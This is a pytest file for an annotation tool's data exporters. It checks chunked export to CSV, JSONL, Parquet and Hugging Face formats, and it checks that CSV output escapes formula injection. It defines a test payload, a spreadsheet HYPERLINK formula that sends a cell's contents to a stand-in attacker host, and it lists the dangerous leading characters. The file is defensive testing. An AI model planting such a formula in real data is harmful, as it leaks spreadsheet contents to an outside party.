"""Exports stream the database in chunks and write every row of every format, and their CSV
cannot carry a formula into a researcher's spreadsheet."""
from __future__ import annotations

import csv
import json

import pytest
from sqlalchemy import select

from annotation.transfer import exporters
from annotation.captions import add_caption, get_or_create_collection
from annotation.transfer.exporters import export_table
from annotation.transfer.finetune_sets import build_finetune_set
from annotation.image_store import add_image
from annotation.scores.score_store import cache_metric_scores
from annotation.studies.tasks import submit_rating, submit_transcreation
from db.models import Caption, User
from db.session import session_scope
from scoring.csv_safe import unescape_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
ANNOTATORS = ("ann", "bea", "cal")


@pytest.fixture
def small_chunks(monkeypatch):
    """Chunk sizes far below the data's size, so every boundary is crossed."""
    monkeypatch.setattr(exporters, "READ_CHUNK", 7)
    monkeypatch.setattr(exporters, "PARQUET_ROW_GROUP", 5)
    monkeypatch.setattr(exporters, "HF_SHARD_ROWS", 4)
    monkeypatch.setattr(exporters, "HF_FILE_BYTES", 1)  # a dataset file per batch


@pytest.fixture
def rated(engine, accounts, make_png):
    """3 images x 5 candidates in two collections, each rated by three annotators with known
    values, CLIP-S cached for some captions: returns what each exported row must hold."""
    expected = {}
    with session_scope(engine) as s:
        rita = s.get(User, accounts["rita"].id)
        first = get_or_create_collection(s, rita, "first")
        second = get_or_create_collection(s, rita, "second")
        for i in range(3):
            image = add_image(s, make_png((40 * i, 90, 200), (10 + i, 7)), original_filename=f"img{i}.png")
            add_caption(s, rita, image, f"reference of image {i}", kind="reference", collection=first)
            for j in range(5):
                text = f"caption {j} of image {i}" if (i, j) != (1, 3) else "-leading dash, a plain caption"
                caption = add_caption(s, rita, image, text, collection=first if j % 2 else second)
                if j == 4:
                    first.captions.append(caption)
                cache_metric_scores(s, "CLIP-S", "fp1", {caption.id: 0.1 * j - 0.2})
                for k, name in enumerate(ANNOTATORS):
                    score = round(0.05 * (i + j + k), 2)
                    submit_rating(s, s.get(User, accounts[name].id), caption.id, score)
                    expected[(name, text)] = {
                        "overall": score, "references": [f"reference of image {i}"],
                        "collections": ["first", "second"] if j == 4 else ["first" if j % 2 else "second"],
                        "score": 0.1 * j - 0.2, "size": (10 + i, 7)}
    return expected


def _read(out, fmt) -> list[dict]:
    if fmt == "csv":
        with out.open(encoding="utf-8", newline="") as handle:
            return [{unescape_cell(k): unescape_cell(v) for k, v in row.items()} for row in csv.DictReader(handle)]
    if fmt == "jsonl":
        return [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    if fmt == "parquet":
        import pyarrow.parquet as pq

        return pq.read_table(out).to_pylist()
    import datasets

    return list(datasets.load_from_disk(str(out)))


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet", "hf"])
def test_streamed_ratings_export_is_complete_and_correct(engine, accounts, rated, small_chunks, tmp_path, fmt):
    out = tmp_path / ("ratings" if fmt == "hf" else f"ratings.{fmt}")
    with session_scope(engine, read_only=True) as s:
        summary = export_table(s, s.get(User, accounts["rita"].id), "ratings", out, fmt)
    rows = _read(out, fmt)
    assert summary["rows"] == len(rows) == len(rated) == 45
    if fmt == "parquet":
        import pyarrow.parquet as pq

        assert pq.ParquetFile(out).metadata.num_row_groups == 9  # 45 rows in groups of 5
    if fmt == "hf":
        assert sorted(p.name for p in out.iterdir()) == [  # 45 rows by 4, and the agreement numbers (issue 24)
            "agreement.json", *(f"data-{i:05d}-of-00012.arrow" for i in range(12)), "dataset_info.json", "state.json"]
    seen = set()
    for row in rows:
        key = (row["annotator"], row["caption"])
        want = rated[key]
        seen.add(key)
        if fmt == "csv":  # text cells: lists as JSON, numbers as written
            assert float(row["overall"]) == want["overall"]
            assert json.loads(row["references"]) == want["references"]
            assert json.loads(row["collections"]) == want["collections"]
            assert float(row["score:CLIP-S@fp1"]) == pytest.approx(want["score"])
        else:
            assert row["overall"] == want["overall"]
            assert list(row["references"]) == want["references"]
            assert list(row["collections"]) == want["collections"]
            assert row["score:CLIP-S@fp1"] == pytest.approx(want["score"])
        if fmt == "hf":
            assert row["image"].size == want["size"]
    assert seen == set(rated)
    ids = [int(row["rating_id"]) for row in rows]
    assert ids == sorted(ids)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_captions_export_of_one_collection(engine, accounts, rated, small_chunks, tmp_path, fmt):
    from annotation.captions import get_collection

    out = tmp_path / f"captions.{fmt}"
    with session_scope(engine, read_only=True) as s:
        summary = export_table(s, s.get(User, accounts["rita"].id), "captions", out, fmt, get_collection(s, "second"))
    rows = _read(out, fmt)
    # "second" holds j in (0, 2, 4) of each image: 9 captions, each rated by three annotators
    assert summary["rows"] == len(rows) == 9
    for row in rows:
        means = [v["overall"] for (name, text), v in rated.items() if text == row["caption"]]
        assert float(row["human_score"]) == pytest.approx(sum(means) / 3)
        assert int(row["n_ratings"]) == 3


def test_a_transcreated_formula_is_defused_in_csv_and_nothing_else_changes(engine, accounts, make_png, tmp_path):
    with session_scope(engine) as s:
        rita, ann = s.get(User, accounts["rita"].id), s.get(User, accounts["ann"].id)
        collection = get_or_create_collection(s, rita, "tc")
        image = add_image(s, make_png((1, 2, 3)), original_filename="@name.png")
        add_caption(s, rita, image, "+a reference", kind="reference", language="de", collection=collection)
        source = add_caption(s, rita, image, "a dog, \"quoted\"\nover two lines", collection=collection)
        submit_rating(s, ann, source.id, 0.75)
        transcreation = submit_transcreation(s, ann, source.id, "de", FORMULA)
        submit_rating(s, s.get(User, accounts["bea"].id), transcreation.result_caption_id, 0.5, fluency=1.0)
    with session_scope(engine, read_only=True) as s:
        rita = s.get(User, accounts["rita"].id)
        export_table(s, rita, "ratings", tmp_path / "r.csv", "csv")
        export_table(s, rita, "ratings", tmp_path / "r.jsonl", "jsonl")
        assert s.scalar(select(Caption.text).where(Caption.kind == "transcreated")) == FORMULA
    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as handle:
        raw = list(csv.reader(handle))
    header, cells = raw[0], raw[1:]
    transcreated = next(row for row in cells if row[header.index("kind")] == "transcreated")
    assert transcreated[header.index("caption")] == "'" + FORMULA
    assert transcreated[header.index("image_filename")] == "'@name.png"
    assert json.loads(transcreated[header.index("references")]) == ["+a reference"]  # JSON text starts with [
    assert not [cell for row in cells for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Read back and unescaped, every CSV cell is the JSONL export's value as text.
    jsonl = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(jsonl) == len(cells) == 2
    for row, record in zip(cells, jsonl):
        assert [unescape_cell(cell) for cell in row] == [
            "" if value is None else json.dumps(value, ensure_ascii=False) if isinstance(value, list) else str(value)
            for value in record.values()]
    assert jsonl[1]["caption"] == FORMULA  # JSON is not a spreadsheet format: stored text as it is
    # The image's place in the store (ab/<sha256>.png), never the server's absolute path.
    sha = jsonl[0]["image_sha256"]
    assert [r["image_file"] for r in jsonl] == [f"{sha[:2]}/{sha}.png"] * 2


def test_finetune_set_csv_is_escaped_and_reads_back_for_training(engine, accounts, make_png, tmp_path):
    from scoring.training.data import _read_table

    with session_scope(engine) as s:
        rita = s.get(User, accounts["rita"].id)
        image = add_image(s, make_png((9, 9, 9)))
        add_caption(s, rita, image, "a reference", kind="reference")
        caption = add_caption(s, rita, image, FORMULA)
        submit_rating(s, s.get(User, accounts["ann"].id), caption.id, 0.25)
        build_finetune_set(s, rita, "human", tmp_path / "human", fmt="csv")
    text = (tmp_path / "human" / "data.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in text
    rows = _read_table(tmp_path / "human" / "data.csv")
    assert rows[0]["candidate"] == FORMULA and rows[0]["references"] == ["a reference"]


def test_an_empty_export_is_a_valid_empty_table(engine, accounts, tmp_path):
    import datasets
    import pyarrow.parquet as pq

    with session_scope(engine) as s:
        get_or_create_collection(s, s.get(User, accounts["rita"].id), "empty")
    with session_scope(engine, read_only=True) as s:
        from annotation.captions import get_collection

        rita, empty = s.get(User, accounts["rita"].id), get_collection(s, "empty")
        for fmt, name in [("hf", "r"), ("parquet", "r.parquet"), ("csv", "r.csv")]:
            assert export_table(s, rita, "ratings", tmp_path / name, fmt, empty)["rows"] == 0
    dataset = datasets.load_from_disk(str(tmp_path / "r"))
    assert len(dataset) == 0 and "image" in dataset.features and "caption" in dataset.features
    assert pq.read_table(tmp_path / "r.parquet").num_rows == 0
    assert (tmp_path / "r.csv").read_text(encoding="utf-8").startswith("rating_id,annotator,overall,")


def test_captions_rated_alike_get_the_same_mean_everywhere(engine, accounts, make_png, tmp_path):
    """{0.6, 0.7, 0.8} summed in another order differs in the last bit (0.6999999999999998 against
    0.7000000000000001): the export, the per-caption mean and the human-rated set round, so such captions stay tied
    where Kendall's tau and the rank gap read them."""
    from scoring.training.data import _read_table
    from annotation.studies.tasks import human_score

    orders = [(0.6, 0.7, 0.8), (0.7, 0.8, 0.6), (0.8, 0.7, 0.6)]
    assert len({sum(o) / 3 for o in orders}) > 1  # the float noise this test is about
    ids = []
    with session_scope(engine) as s:
        rita = s.get(User, accounts["rita"].id)
        image = add_image(s, make_png((9, 90, 9)))
        add_caption(s, rita, image, "a reference", kind="reference")
        for n, order in enumerate(orders):
            caption = add_caption(s, rita, image, f"caption {n}")
            ids.append(caption.id)
            for name, score in zip(ANNOTATORS, order):
                submit_rating(s, s.get(User, accounts[name].id), caption.id, score)
        assert [human_score(s, i) for i in ids] == [0.7, 0.7, 0.7]
        exported = {r["caption"]: r["human_score"] for r in exporters.captions_table(s, rita)}
        assert [exported[f"caption {n}"] for n in range(3)] == [0.7, 0.7, 0.7]
        build_finetune_set(s, rita, "human", tmp_path / "human")
    rows = _read_table(tmp_path / "human" / "data.jsonl")
    assert sorted(r["human_score"] for r in rows) == [0.7, 0.7, 0.7]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_the_captions_export_carries_who_transcreated_and_the_score_kept(engine, accounts, make_png, tmp_path, fmt):
    """A transcreation has no ratings of its own: the score it keeps from its source and who wrote
    it are exported beside it, and captions that are not transcreations leave both empty."""
    with session_scope(engine) as s:
        rita, ann = s.get(User, accounts["rita"].id), s.get(User, accounts["ann"].id)
        image = add_image(s, make_png((4, 5, 6)))
        source = add_caption(s, rita, image, "a red circle above a blue square")
        submit_rating(s, ann, source.id, 0.6)
        submit_rating(s, s.get(User, accounts["bea"].id), source.id, 0.8)
        submit_transcreation(s, s.get(User, accounts["cal"].id), source.id, "de", "ein roter Kreis über einem blauen Quadrat")
    with session_scope(engine, read_only=True) as s:
        export_table(s, s.get(User, accounts["rita"].id), "captions", tmp_path / f"c.{fmt}", fmt)
    rows = {r["kind"]: r for r in _read(tmp_path / f"c.{fmt}", fmt)}
    transcreated, candidate = rows["transcreated"], rows["candidate"]
    assert transcreated["transcreated_by"] == "cal" and float(transcreated["source_score"]) == pytest.approx(0.7)
    assert transcreated["parent_caption"] == "a red circle above a blue square"
    assert int(transcreated["n_ratings"]) == 0
    assert candidate["transcreated_by"] in (None, "") and candidate["source_score"] in (None, "")
